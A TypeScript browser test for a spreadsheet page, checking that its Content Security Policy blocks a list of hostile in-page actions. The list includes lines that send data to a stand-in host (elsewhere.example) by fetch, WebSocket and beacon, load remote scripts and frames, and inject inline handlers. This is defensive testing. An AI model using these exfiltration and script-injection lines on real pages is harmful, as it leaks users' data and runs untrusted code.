/** The page's content policy holds: nothing leaves it, and nothing runs in it that did not come with it. */
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, expect, inject, test } from "vitest";
import { launchBrowser } from "./launch";
import { openSheet, shown } from "./sheet";

const address = inject("address");
let browser: Browser;

beforeAll(async () => {
  browser = await launchBrowser();
});

afterAll(() => browser?.close());

/** What a page would do that meant ill, each as the directive that forbids it. */
const ILL: [directive: string, act: string][] = [
  ["connect-src", "fetch('https://elsewhere.example/?mine').catch(() => {})"],
  ["connect-src", "new WebSocket('wss://elsewhere.example')"],
  ["connect-src", "navigator.sendBeacon('https://elsewhere.example', 'mine')"],
  ["img-src", "new Image().src = 'https://elsewhere.example/?mine'"],
  [
    "script-src-elem",
    "document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = true' }))",
  ],
  [
    "script-src-elem",
    "document.head.append(Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/a.js' }))",
  ],
  [
    "script-src-attr",
    "document.body.setAttribute('onclick', 'window.ran = true'); document.body.click()",
  ],
  [
    "style-src-elem",
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://elsewhere.example/a.css' }))",
  ],
  [
    "font-src",
    "new FontFace('far', 'url(https://elsewhere.example/a.woff2)').load().catch(() => {})",
  ],
  [
    "frame-src",
    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example' }))",
  ],
  [
    "object-src",
    "document.body.append(Object.assign(document.createElement('object'), { data: 'https://elsewhere.example/a' }))",
  ],
  [
    "form-action",
    "document.body.append(Object.assign(document.createElement('form'), { action: 'https://elsewhere.example' })); document.forms[document.forms.length - 1].submit()",
  ],
  [
    "base-uri",
    "document.head.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example' }))",
  ],
];

test("whatever leads out of the page is stopped by the browser, and the sheet works on", async () => {
  const { page } = await openSheet(browser, address);
  // The browser tells of requests that it then does not make.
  const stopped = new Set<string | undefined>();
  page.on("requestfailed", (request) => stopped.add(request.failure()?.errorText));
  for (const [directive, act] of ILL) {
    const broken = await page.evaluate(
      `new Promise((done) => {
        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => done(effectiveDirective), { once: true });
        setTimeout(() => done("nothing was stopped"), 5_000);
        ${act};
      })`,
    );
    expect(broken, act).toBe(directive);
  }
  expect(await page.evaluate("window.ran")).toBeUndefined();
  expect([...stopped]).toEqual(["csp"]);
  expect(await shown(page, "A1")).toBe("Larkfield Mist House");
  await page.context().close();
});
